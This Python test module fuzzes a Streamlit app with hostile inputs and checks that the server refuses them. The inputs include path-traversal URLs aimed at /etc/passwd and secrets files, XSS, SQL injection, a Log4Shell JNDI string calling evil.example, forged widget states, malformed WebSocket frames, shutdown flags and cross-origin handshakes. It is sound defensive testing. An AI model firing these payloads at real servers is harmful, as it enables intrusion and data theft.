"""What nobody should send to a server, sent: to its socket, in links, as widgets' values, as paths of files."""

import asyncio
import http.client
import random
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace
from urllib.parse import quote, urlencode, urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ClientState_pb2 import ClientState
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from tests import hostile
from tests.load.client import LostError, Session

WAIT = 20.0  # seconds after which an input has won
PATHS = (
    "/..%2f..%2f..%2fetc%2fpasswd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/media/../../../../etc/passwd",
    "/component/..%2f..%2fetc%2fpasswd", "/_stcore/bidi-components/..%2f..%2fetc%2fpasswd", "/app/static/%2e%2e/app.py",
    "//evil.example/%2e%2e", "/%00", "/media/" + "a" * 5000, "/training/../../app.py", "/_stcore/upload_file/a/b",
    "/_stcore/metrics", "/.streamlit/secrets.toml", "/.git/config",
)  # fmt: skip
SECRETS = (b"root:x:", b"st.set_page_config(", b"[core]")  # of files that no path may give
TEXTS = (
    "", " ", "\0", "𝕏" * 200, "../" * 30 + "etc/passwd", "/etc/passwd", "<script>alert(1)</script>",
    "'; DROP TABLE runs--",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%x", "-1", "1e999", "NaN", "9" * 400, "a" * 20_000, "[" * 3000,
    "__class__", "run:../../../../etc", "zoo:../digits-lenet", "file:/etc/passwd", "hf:../../x",
    "torchvision:os.system",
    "run:" + "0" * 32, "run:' OR 1=1", "\u202e\u200b\ufeff", "null", "true",
)  # fmt: skip
KEYS = {  # parameters that the pages read from a link
    "training": ("run", "data", "network", "epochs", "lr", "seed", "view", "lenet_width", "checkpoint"),
    "attribution": ("model", "view", "example", "methods"),
    "attention": ("model", "see", "text"),
    "activations": ("model", "view", "layer", "at"),
    "diffusion": ("model", "view", "steps", "seed"),
    "models": ("model",),
}


@dataclass(frozen=True)
class Tried:
    """One input and what became of it."""

    name: str
    seconds: float  # until the server had answered, or closed the connection
    wrong: str = ""  # why it was not refused properly
    forged: bool = False  # a value that no browser sends for that widget: Streamlit itself may refuse to read it


def handed() -> tuple[list[Tried], list[str]]:
    """What is handed over within a process: how each was refused, or was harmless; what went wrong with the others."""
    hostile.warm_up()
    tried, wrong = [], []
    for one in hostile.corpus():
        try:
            tried.append(Tried(f"{one.kind}, {one.name}", hostile.attempt(one).seconds))
        except Exception as error:  # noqa: BLE001 - that there is another is what this looks for
            wrong.append(f"{one.kind}, {one.name}: {type(error).__name__}: {str(error)[:200]}")
    return tried, wrong


async def strike(address: str, seed: int, links: int) -> list[Tried]:
    """Try everything that goes over the wire, one after the other; so many links of each page."""
    chance = random.Random(seed)
    tried = [await asyncio.to_thread(_fetch, address, path) for path in PATHS]
    for page, keys in KEYS.items():
        async with Session(address, page) as session:
            named = [urlencode({key: text}) for key in keys for text in TEXTS]
            for link in [*chance.sample(named, min(links, len(named))), *_wild(chance)[:links]]:
                tried.append(await _one(session, f"/{page}?{link[:60]}", _ask(session, link)))
            forged = _states(session, chance)
        tried += await _forge(address, page, forged)
    for name, data in _frames(chance):
        async with Session(address) as session:
            tried.append(await _one(session, name, _raw(session, data), closes=True))
    tried += [await _handshake(address, name, about) for name, about in HANDSHAKES.items()]
    return tried


async def _forge(address: str, page: str, forged: list[tuple[str, ClientState | bytes]]) -> list[Tried]:
    """Send states to sessions of their own: where Streamlit can't read one, it shows that session nothing else."""
    tried, session = [], None
    for name, state in forged:
        if session is None:
            session = Session(address, page)
            await session.open()
        send = _raw(session, state) if isinstance(state, bytes) else lambda session=session, state=state: session.send(
            BackMsg(rerun_script=state), WAIT
        )  # fmt: skip
        tried.append(replace(await _one(session, f"/{page}: {name}", send), forged=True))
        if tried[-1].wrong:
            await session.close()
            session = None
    if session is not None:
        await session.close()
    return tried


Send = Callable[[], Awaitable[float]]


async def _one(session: Session, name: str, send: Send, closes: bool = False) -> Tried:
    """Send one, and see that the page is there as before, or, where it may, that the connection was closed."""
    before, began, wrong = len(session.errors), time.perf_counter(), ""
    try:
        await send()
        wrong = "; ".join(session.errors[before:])
    except LostError as error:
        wrong = "" if closes and "closed" in str(error) else str(error)
    return Tried(name, time.perf_counter() - began, wrong)


def _ask(session: Session, query: str, **about: object) -> Send:
    """Open a link in a tab that is open."""
    state = ClientState(**{"query_string": query, "page_script_hash": session.pages.get(session.page, ""), **about})
    return lambda: session.send(BackMsg(rerun_script=state), WAIT)


def _raw(session: Session, data: bytes | str) -> Send:
    """Send a frame, then ask whether the server is there."""

    async def send() -> float:
        await asyncio.gather(session.raw(data), return_exceptions=True)
        return await session.heartbeat(WAIT)

    return send


def _wild(chance: random.Random) -> list[str]:
    """Query strings that are none."""
    return [
        "&" * 5000, "=" * 5000, "%", "%zz=%zz", "?" * 100, "a=1&" * 3000, quote(chance.randbytes(2000)),
        "&".join(f"k{number}=v" for number in range(5000)), "a" * 200_000, "a[b][c]=1&a.b=2", "view=Map&view=Layer",
    ]  # fmt: skip


def _states(session: Session, chance: random.Random) -> list[tuple[str, ClientState | bytes]]:
    """Values that no widget can have, pages and fragments that aren't there."""
    found = []

    def sent(name: str, fill: Callable[[ClientState], object]) -> None:
        state = ClientState(page_script_hash=session.pages.get(session.page, ""))
        fill(state)
        found.append((name, state))

    for shown in chance.sample(session.movable(), min(6, len(session.movable()))):
        for name, about in (
            ("a text", {"string_value": chance.choice(TEXTS)}),
            ("no number", {"double_value": float("nan")}),
            ("an endless number", {"double_array_value": {"data": [float("inf")] * 3}}),
            ("words", {"string_array_value": {"data": [chance.choice(TEXTS)] * 4}}),
            ("bytes", {"bytes_value": chance.randbytes(100)}),
            ("no JSON", {"json_value": "{"}),
            ("a press", {"trigger_value": True}),
            ("nothing", {}),
        ):
            sent(f"{name} for {shown.id.split('-', 2)[-1][:40]}",
                 lambda state, id=shown.id, about=about: state.widget_states.widgets.add(id=id, **about))  # fmt: skip
    sent("a widget that isn't there", lambda state: state.widget_states.widgets.add(id="$$ID-x-y", bool_value=True))
    sent("thousands of widgets", lambda state: [state.widget_states.widgets.add(id=f"$$ID-{number}-x", int_value=number)
                                                for number in range(20_000)])  # fmt: skip
    sent("hashes of nothing", lambda state: state.cached_message_hashes.extend(["0" * 64] * 5000))
    fragment = ClientState(fragment_id="0" * 32, page_script_hash=session.pages.get(session.page, ""))
    found.append(("a fragment that isn't there", BackMsg(rerun_script=fragment).SerializeToString()))
    return found


def _frames(chance: random.Random) -> list[tuple[str, bytes | str]]:
    """Frames that are no messages, or no good ones."""
    whole = BackMsg(rerun_script=ClientState(query_string="a=1", page_name="x" * 100)).SerializeToString()
    deep = BackMsg()
    deep.rerun_script.widget_states.widgets.add(id="$$ID-x-y", json_value="[" * 100_000)
    return [
        ("noise", chance.randbytes(1000)), ("half a message", whole[: len(whole) // 2]), ("an empty frame", b""),
        ("words", "hello"), ("26 MB", bytes(26_000_000)), ("26 MB of a widget", _heavy(26_000_000)),
        ("JSON without an end", deep.SerializeToString()), ("a press on shutdown", _flag("debug_shutdown_runtime")),
        ("a press on disconnect", _flag("debug_disconnect_websocket")), ("git", _flag("load_git_info")),
        ("stop", _flag("stop_script")), ("run on save", _flag("set_run_on_save")),
        ("skills", BackMsg(backend_operation_request={"request_id": "1", "install_skills": {}}).SerializeToString()),
        ("a file", BackMsg(backend_operation_request={"request_id": "1", "deferred_file": {"file_id": "../../x"}})
         .SerializeToString()),
        ("rows", BackMsg(backend_operation_request={"request_id": "1", "dataframe_chunk": {"source_id": "x",
                         "offset": 2**31 - 1, "limit": 2**31 - 1}}).SerializeToString()),
    ]  # fmt: skip


def _heavy(size: int) -> bytes:
    message = BackMsg()
    message.rerun_script.widget_states.widgets.add(id="$$ID-x-y", bytes_value=bytes(size))
    return message.SerializeToString()


def _flag(name: str) -> bytes:
    return BackMsg(**{name: True}).SerializeToString()


HANDSHAKES = {  # what a foreign page, or another person's tab, would say
    "another site": {"origin": "https://evil.example"},
    "another session": {"subprotocols": ["streamlit", "x", "00000000-0000-0000-0000-000000000000"]},
    "a long token": {"subprotocols": ["streamlit", "x" * 5000]},
    "a broken cookie": {"additional_headers": {"Cookie": "_streamlit_xsrf=2|zz|zz|zz; _streamlit_user=x"}},
}


async def _handshake(address: str, name: str, about: dict) -> Tried:
    """Another site is turned away; the others get a session of their own, in which the page runs."""
    began, wrong = time.perf_counter(), ""
    try:
        async with connect(address.replace("http", "ws", 1) + "/_stcore/stream", proxy=None, max_size=None,
                           **{"origin": address, "subprotocols": ["streamlit"], **about}) as socket:  # fmt: skip
            if "origin" in about:
                wrong = "it was let in"
            await socket.send(BackMsg(rerun_script=ClientState()).SerializeToString())
            await asyncio.wait_for(socket.recv(), WAIT)
    except InvalidStatus as error:
        wrong = "" if "origin" in about else str(error)
    except TimeoutError:
        wrong = "no answer"
    return Tried(f"handshake: {name}", time.perf_counter() - began, wrong)


def _fetch(address: str, path: str) -> Tried:
    """A file that isn't for the person: an answer of any kind, without it."""
    began = time.perf_counter()
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=WAIT)
    try:
        connection.putrequest("GET", path, skip_host=False)
        connection.endheaders()
        body = connection.getresponse().read()
        wrong = "it gave the file away" if any(secret in body for secret in SECRETS) else ""
    except (OSError, http.client.HTTPException) as error:
        wrong = str(error)
    finally:
        connection.close()
    return Tried(path[:60], time.perf_counter() - began, wrong)
